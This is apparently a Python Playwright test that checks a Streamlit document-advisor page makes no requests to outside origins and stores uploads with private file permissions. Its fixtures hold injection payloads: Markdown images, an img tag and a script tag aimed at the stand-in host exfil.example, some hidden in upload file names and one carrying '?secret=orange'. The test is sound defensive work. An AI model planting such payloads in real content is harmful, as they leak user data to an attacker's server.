"""The page makes no request outside its own origin (issue 22, item 2), in a real Chromium.

Every request the page makes is recorded, from the first load (its icon used to come from a
Google fonts host) through uploading files whose names carry a Markdown image (one breaking out
of an inline code span, as in the sidebar's document list), asking a question whose cited
document holds a Markdown image, raw HTML and a bare URL, and reading the sources.
"""

from __future__ import annotations

import os
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.browser.streamlit_server import streamlit_app

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = ROOT / "artifacts"
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run"]  # fmt: skip
EXFIL = "https://exfil.example"
# Upload names cannot hold a "/", but a browser reads `https:host` as `https://host/`.
NAMES = [
    "notes `![t](https:exfil.example?name-code)` end.md",
    "![n](https:exfil.example?name)<img src=https:exfil.example?name-html>.md",
]
DOC = (
    "# Pager rota\n\nThe on-call engineer carries the orange pager every second week. "
    f"![chart]({EXFIL}/body.png?secret=orange) "
    f'<img src="{EXFIL}/body-html.png"> <script src="{EXFIL}/x.js"></script> '
    f"The rota lives at {EXFIL}/rota and [the runbook]({EXFIL}/runbook).\n"
).encode()


@pytest.fixture(scope="module")
def app_url(tmp_path_factory, embeddings):
    if not CHROMIUM.exists():
        pytest.skip(f"{CHROMIUM} is missing: run scripts/install_browser.sh (apt-get chromium)")
    pytest.importorskip("playwright", reason="install the dev extra: pip install -e '.[dev]'")
    from advisor.core.principal import Principal
    from advisor.core.settings import Settings
    from advisor.service.facade import Advisor

    data_dir = tmp_path_factory.mktemp("no-outside-data")
    docs = tmp_path_factory.mktemp("no-outside-docs")
    (docs / "rota `![r](https:exfil.example?cli-name)`.md").write_bytes(DOC)
    Advisor(Settings(data_dir=data_dir), embeddings=embeddings).ingest(Principal.local(), [docs])
    cwd = tmp_path_factory.mktemp("no-outside-cwd")
    with streamlit_app(data_dir, cwd, "browser-no-outside-requests.log") as url:
        yield url, data_dir


def test_the_page_never_contacts_another_origin(app_url):
    from playwright.sync_api import expect, sync_playwright

    url, data_dir = app_url
    own = urlsplit(url).netloc
    outside: list[str] = []
    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            page = browser.new_page(viewport={"width": 1366, "height": 1600})
            page.on(
                "request",
                lambda r: None if urlsplit(r.url).netloc in (own, "") else outside.append(r.url),
            )
            page.goto(url)
            sidebar = page.get_by_test_id("stSidebar")
            expect(sidebar.get_by_text("Add documents")).to_be_visible(timeout=60_000)
            sidebar.get_by_text("Add documents").click()
            files = [{"name": n, "mimeType": "text/markdown", "buffer": DOC} for n in NAMES]
            sidebar.locator("input[type=file]").set_input_files(files)
            sidebar.get_by_role("button", name="Index files").click()
            try:
                expect(sidebar.get_by_text(": indexed").first).to_be_visible(timeout=120_000)
                sidebar.get_by_text("Documents in scope").click()
            except Exception:
                page.screenshot(path=str(ARTIFACTS / "browser-no-outside-fail.png"), full_page=True)
                raise
            expect(sidebar.get_by_text("name-code").first).to_be_visible()
            box = page.get_by_test_id("stChatInputTextArea")
            box.fill("Which pager does the on-call engineer carry?")
            box.press("Enter")
            answer = page.get_by_test_id("stChatMessage").nth(1)
            expect(answer.get_by_test_id("stFeedback")).to_be_visible(timeout=60_000)
            cards = answer.locator("[class*='st-key-src-'] summary")
            expect(cards.first).to_be_visible()
            for i in range(cards.count()):  # open every source: its passage is drawn too
                cards.nth(i).click()
            page.wait_for_timeout(1500)  # let any image the page would load start loading
            page.screenshot(path=str(ARTIFACTS / "browser-no-outside-requests.png"), full_page=True)
            assert page.locator("img[src*='exfil']").count() == 0
            assert page.locator("a[href*='exfil']").count() == 0
        finally:
            browser.close()
    assert outside == [], f"the page contacted other origins: {outside}"
    uploads = [p for p in data_dir.rglob("*") if p.is_file()]
    assert uploads and all(p.stat().st_mode & 0o077 == 0 for p in uploads), [
        (str(p), oct(p.stat().st_mode)) for p in uploads if p.stat().st_mode & 0o077
    ]
    assert os.stat(data_dir).st_mode & 0o077 == 0
